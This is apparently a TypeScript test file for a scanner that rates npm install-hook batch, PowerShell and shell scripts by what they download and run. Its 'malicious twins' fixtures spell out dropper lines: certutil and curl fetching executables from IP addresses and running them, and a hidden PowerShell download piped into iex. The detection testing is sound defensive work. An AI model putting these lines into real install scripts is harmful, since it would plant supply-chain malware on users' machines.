/**
 * Scripts an install hook runs (shell, batch, PowerShell: npm/script-download.ts) are read as
 * install-time code, not as opaque payloads, and their downloads are judged like the JavaScript ones:
 *
 *  - a download by an OS tool (bitsadmin, certutil -urlcache, Invoke-WebRequest, curl, wget) over
 *    HTTPS from the package's own declared host or a well-known installer host: LOW (the message
 *    says whether a digest is checked); run at install: MEDIUM (what it runs is not reviewed);
 *  - download-and-run from any other host, over plain HTTP, from an IP, or started detached: CRITICAL;
 *  - a bundled executable the script starts detached or hidden: CRITICAL, as from JavaScript.
 *
 * The real case's shape: an install hook `node install.js` whose file spawns a bundled `install.bat`
 * (macOS: `install.sh`); the batch file fetches a package manager's command-line client with
 * bitsadmin from the host named after it and runs `<client> install <package>` (chromium 3.x, with
 * .NET's package manager: BLOCKED before as "runs a bundled Windows script"). Registry hosts are never
 * written here (configuration): the client is `pkgtool`, published on `dist.pkgtool.example`.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { scriptDownloads, scriptStarts } from '../../shared/packages/analysis/npm/script-download.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';
import { fakePe } from '../support/npm-variants.js';

const REGISTRY = 'registry.example.org';
const level = (a: ArchiveAnalysis) =>
  packageVerdict(reviewPackage({ registry: 'npm', name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const hookRule = (a: ArchiveAnalysis) => a.findings.filter((f) => f.category === 'install_script' && f.file.endsWith('package.json')).map((f) => `${f.ruleId}:${f.severity}`);

const MANIFEST = JSON.stringify({ name: 'embed-browser', version: '3.0.0', homepage: 'https://embed-browser.dev', repository: 'github:embed-org/embed-browser', scripts: { install: 'node install.js' } });
const INSTALL_JS = "if (process.platform !== 'darwin') {\n  require('child_process').spawn('install.bat', [], { stdio: 'inherit' });\n} else {\n  require('child_process').spawn('install.sh', [], { stdio: 'inherit' });\n}\n";

async function pkg(files: Record<string, string | Buffer>) {
  return analyzeArchive(npmTgz({ 'package.json': MANIFEST, 'install.js': INSTALL_JS, ...files } as Record<string, string>), { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] });
}

const REAL_BAT = `@echo off
rmdir /q/s bin >nul 2>&1
mkdir bin\\win >nul 2>&1
echo Fetching Installer
bitsadmin /transfer pkgtool /priority NORMAL https://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe  >nul 2>&1
echo Installing
:: pkgtool install Embed.Core -NonInteractive
pkgtool install Embed.Wpf -NonInteractive
for /F %%i in ('dir *.dll /b/s') do copy /y %%i %CD%\\bin\\win\\  >nul 2>&1
del pkgtool.exe >nul 2>&1
`;
const REAL_SH = '#!/bin/sh\ncurl -L https://github.com/embed-org/embed-browser/releases/download/0.0.1/lib.framework.zip > lib.framework.zip\nunzip lib.framework.zip\nrm -rf lib.framework.zip\n';

test('the reader: downloads, the file each writes, runs of a downloaded file, digest checks, starts', () => {
  const f = scriptDownloads(REAL_BAT);
  assert.equal(f.downloads.map((d) => [d.tool, d.url]), [['bitsadmin', 'https://dist.pkgtool.example/downloads/pkgtool.exe']]);
  assert.equal(f.runs.map((r) => [r.line, r.detached, r.args]), [[8, false, 'install Embed.Wpf -NonInteractive']], 'the commented-out line is not a run');
  assert.is(f.verified, false);
  const ps = scriptDownloads("Invoke-WebRequest -Uri https://dl.tool.dev/t.zip -OutFile $env:TEMP\\t.zip\nif ((Get-FileHash $env:TEMP\\t.zip).Hash -ne $sum) { exit 1 }\nExpand-Archive $env:TEMP\\t.zip bin\n");
  assert.equal(ps.downloads.map((d) => d.tool), ['powershell']);
  assert.equal(ps.runs, [], 'unpacking is not running');
  assert.ok(ps.verified);
  const cu = scriptDownloads('certutil -urlcache -split -f "http://203.0.113.9/a.exe" %TEMP%\\a.exe & start /b %TEMP%\\a.exe\n');
  assert.equal(cu.runs.map((r) => r.detached), [true]);
  assert.equal(scriptStarts('@echo off\nstart "" /b "%~dp0\\svc.exe" -q\n').map((s) => [s.target, s.detached]), [['svc.exe', true]]);
});

test("the real case: a bundled batch file fetching a package manager's client from the host named after it and running it to install packages is CAUTION, not BLOCKED", async () => {
  const a = await pkg({ 'install.bat': REAL_BAT, 'install.sh': REAL_SH });
  assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
  assert.match(a.findings.find((f) => f.ruleId === 'install_script_runs_download')!.message, /a package manager's client from the host named after it/);
  assert.not.ok(a.findings.some((f) => f.ruleId === 'install_spawns_payload'), 'a bundled script is read, not an opaque payload');
  assert.ok(a.installTimeFiles?.includes('package/install.bat'));
  assert.is(level(a), 'CAUTION');
});

test("variants of a package manager's client: PowerShell and curl, restore, its own index named as the source", async () => {
  // PowerShell: the client saved under its published name, restoring a project's packages.
  let a = await pkg({ 'install.bat': '@echo off\npowershell -NoProfile -File "%~dp0get.ps1"\n', 'get.ps1': 'Invoke-WebRequest -Uri https://get.pkgtool.example/latest/pkgtool.exe -OutFile pkgtool.exe\n& .\\pkgtool.exe restore Embed.sln -Source https://api.pkgtool.example/v3/index.json\nRemove-Item pkgtool.exe\n', 'install.sh': REAL_SH });
  assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
  assert.is(level(a), 'CAUTION');
  // A shell script: curl -o, chmod, ./client install.
  a = await pkg({ 'install.bat': '@echo off\n', 'install.sh': '#!/bin/sh\ncurl -fsSL -o pkgtool https://pkgtool.example/releases/pkgtool && chmod +x pkgtool\n./pkgtool install embed-native --no-progress > install.log 2>&1\nrm pkgtool\n' });
  assert.equal(hookRule(a), ['install_script_runs_download:MEDIUM']);
  assert.is(level(a), 'CAUTION');
});

test("look-alikes of a package manager's client stay BLOCKED: another host, another name, other arguments, a foreign source", async () => {
  const cases: [string, string][] = [
    ['the client from a host named after something else', '@echo off\nbitsadmin /transfer j https://cdn-update-service.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool install Embed.Wpf -NonInteractive\n'],
    ['a file saved under the client\'s name but published under another', '@echo off\nbitsadmin /transfer j https://dist.pkgtool.example/downloads/update.bin %CD%\\pkgtool.exe\npkgtool install Embed.Wpf -NonInteractive\n'],
    ['the program started without a package verb', '@echo off\nbitsadmin /transfer j https://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool /quiet /norestart\n'],
    ['over plain HTTP', '@echo off\nbitsadmin /transfer j http://dist.pkgtool.example/downloads/pkgtool.exe %CD%\\pkgtool.exe\npkgtool install Embed.Wpf\n'],
    ['packages from a source on another host', '@echo off\ncertutil -urlcache -split -f https://dist.pkgtool.example/pkgtool.exe pkgtool.exe\npkgtool install Embed.Wpf -Source https://feed.cdn-update-service.example/v3/index.json\n'],
    ['started detached', '@echo off\ncertutil -urlcache -split -f https://dist.pkgtool.example/pkgtool.exe pkgtool.exe\nstart /b pkgtool install Embed.Wpf\n'],
  ];
  for (const [what, bat] of cases) {
    const a = await pkg({ 'install.bat': bat, 'install.sh': REAL_SH });
    assert.is(level(a), 'BLOCKED', `${what}: ${hookRule(a).join(', ')}`);
  }
});

test("variants: a binary from the package's own host, checked or not, is LOW; run, MEDIUM", async () => {
  // bitsadmin from the package's home page host, not run.
  let a = await pkg({ 'install.bat': '@echo off\nbitsadmin /transfer b https://embed-browser.dev/dl/cef-win64.zip "%~dp0cef.zip"\npowershell -NoProfile -Command "Expand-Archive cef.zip bin"\n', 'install.sh': REAL_SH });
  assert.equal(hookRule(a), ['install_script_unverified_binary:LOW']);
  assert.is(level(a), 'MONITORED');
  // certutil from the repository's releases, with a certutil -hashfile check.
  a = await pkg({ 'install.bat': '@echo off\ncertutil -urlcache -split -f https://github.com/embed-org/embed-browser/releases/download/v3/cef.zip cef.zip\ncertutil -hashfile cef.zip SHA256 | findstr /i %EXPECTED% || exit /b 1\n', 'install.sh': REAL_SH });
  assert.equal(hookRule(a), ['install_script_own_binary:LOW']);
  // PowerShell from the own host, run at install (waits for it).
  a = await pkg({ 'install.bat': '@echo off\npowershell -NoProfile -File "%~dp0fetch.ps1"\n', 'fetch.ps1': 'Invoke-WebRequest -Uri https://embed-browser.dev/dl/setup-helper.exe -OutFile setup-helper.exe\n& .\\setup-helper.exe --unpack bin\n', 'install.sh': REAL_SH });
  assert.ok(hookRule(a).includes('install_script_runs_download:MEDIUM'), hookRule(a).join(','));
  assert.is(level(a), 'CAUTION');
  // A shell hook downloading with curl -o from the own host.
  a = await analyzeArchive(npmTgz({ 'package.json': JSON.stringify({ name: 'embed-browser', version: '3.0.0', homepage: 'https://embed-browser.dev', scripts: { postinstall: 'sh ./scripts/get.sh' } }), 'scripts/get.sh': '#!/bin/sh\nset -e\ncurl -fsSL -o vendor/lib.tgz https://embed-browser.dev/dl/lib.tgz\ntar -xzf vendor/lib.tgz -C vendor\n' }), { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] });
  assert.equal(hookRule(a), ['install_script_unverified_binary:LOW']);
});

test('malicious twins stay BLOCKED: download-and-run from a foreign host, plain HTTP or an IP, detached starts', async () => {
  const cases: [string, Record<string, string | Buffer>][] = [
    ['bitsadmin from a foreign host, run', { 'install.bat': '@echo off\nbitsadmin /transfer u https://cdn-update-service.example/upd.exe %TEMP%\\upd.exe\n%TEMP%\\upd.exe /quiet\n' }],
    ['certutil from an IP, started detached', { 'install.bat': '@echo off\ncertutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe & start /b %TEMP%\\a.exe\n' }],
    ['own host but started hidden', { 'install.bat': '@echo off\npowershell -c "Invoke-WebRequest https://embed-browser.dev/dl/svc.exe -OutFile $env:TEMP\\svc.exe"\nstart "" /b %TEMP%\\svc.exe\n' }],
    ['PowerShell from a foreign host, Start-Process hidden', { 'install.bat': '@echo off\npowershell -NoProfile -File "%~dp0a.ps1"\n', 'a.ps1': 'Invoke-WebRequest -Uri https://files-cdn.example/x.exe -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe -WindowStyle Hidden\n' }],
    ['shell: curl from an IP, chmod and run', { 'install.sh': '#!/bin/sh\ncurl -s -o /tmp/.x http://198.51.100.7/x\nchmod +x /tmp/.x\n/tmp/.x\n', 'install.bat': '@echo off\ncurl -s -o %TEMP%\\x.exe http://198.51.100.7/x.exe\n%TEMP%\\x.exe\n' }],
    ['PowerShell download piped into iex', { 'install.bat': '@echo off\npowershell -w hidden -c "iex (iwr -UseBasicParsing https://files-cdn.example/p.ps1)"\n' }],
    ['a bundled executable started detached by the script', { 'install.bat': '@echo off\nstart "" /b "%~dp0svc.exe"\n', 'svc.exe': fakePe() }],
  ];
  for (const [what, files] of cases) {
    const a = await pkg({ 'install.sh': REAL_SH, ...files });
    assert.is(level(a), 'BLOCKED', `${what}: ${a.findings.filter((f) => f.severity !== 'INFO' && f.category !== 'binary').map((f) => `${f.ruleId}:${f.severity}`).join(', ')}`);
  }
});

test.run();
